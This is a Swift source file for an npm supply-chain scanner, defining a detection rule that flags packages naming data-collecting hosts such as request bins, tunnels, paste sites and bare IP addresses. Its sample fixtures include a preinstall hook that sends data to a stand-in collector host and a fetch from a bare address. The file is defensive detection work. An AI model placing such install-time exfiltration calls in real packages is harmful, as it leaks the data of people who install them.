// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// Code names a host that collects whatever is sent to it: request bins, tunnels, chat hooks, paste sites, bare addresses.
package struct CollectingHost: Rule {
    package init() {}

    package let card = RuleCard(
        id: "collecting-host", kind: .content, title: "Names a host that collects data", severity: .high, confidence: .medium,
        status: .stable, revision: 2, group: "destination",
        rationale:
            "Throw-away collectors need no account and leave no owner: request bins, tunnels, chat hooks, DNS loggers. Packages rarely need one.",
        knownFalseAlarms: ["Clients of those services.", "Examples left in the code."],
        references: ["https://cwe.mitre.org/data/definitions/200.html"],
        fires: [
            RuleSample(
                "at install",
                .sample([
                    "package.json": #"{"name":"a","version":"1.0.0","scripts":{"preinstall":"node index.js"}}"#,
                    "index.js": "require('https').get('https://abc.oast.test/?d=' + d)",
                ])),
            RuleSample("a bare address", .sample(["index.js": "require('http').get('http://203.0.113.9/d/tool')"])),
        ],
        staysSilent: [
            RuleSample("in the read-me", .sample(["README.md": "see https://webhook.site/"])),
            RuleSample("an address of the local network", .sample(["index.js": "fetch('http://192.168.1.1/')"])),
            RuleSample("version numbers", .sample(["index.js": "x = 'http://www.w3.org/1.2.3.4'"])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        let signs: [Sign] = [.dropHost, .rawAddress, .pasteHost]
        let install = signs.filter(facts.installSigns.contains)
        if !install.isEmpty {
            return [
                card.finding(
                    "What runs at install \(PlainWords.list(install.map(\.plain)))", strength: install == [.pasteHost] ? 0.8 : 1,
                    evidence: facts.installEvidence(install), meaning: "Data or programs go through a place that nobody answers for.")
            ]
        }
        let files = facts.files.filter { file in
            guard file.kind == .source, let scan = file.scan, !file.isAside, file.change != .same else { return false }
            return [Sign.dropHost, .rawAddress].contains {
                scan.chain([$0, .networkModule]) || scan.chain([$0, .networkCall]) || scan.allSigns.contains(.dropHost)
            }
        }
        guard let first = files.first else { return [] }
        let found = signs.filter { first.scan?.allSigns.contains($0) == true }
        return [
            card.finding(
                "\(first.path) \(PlainWords.list(found.map(\.plain)))",
                strength: first.change == .new || first.change == .changed ? 0.3 : 0,
                evidence: files.prefix(3).flatMap { file in found.compactMap(file.evidence) },
                meaning: "Data may go to a place that nobody answers for.")
        ]
    }
}
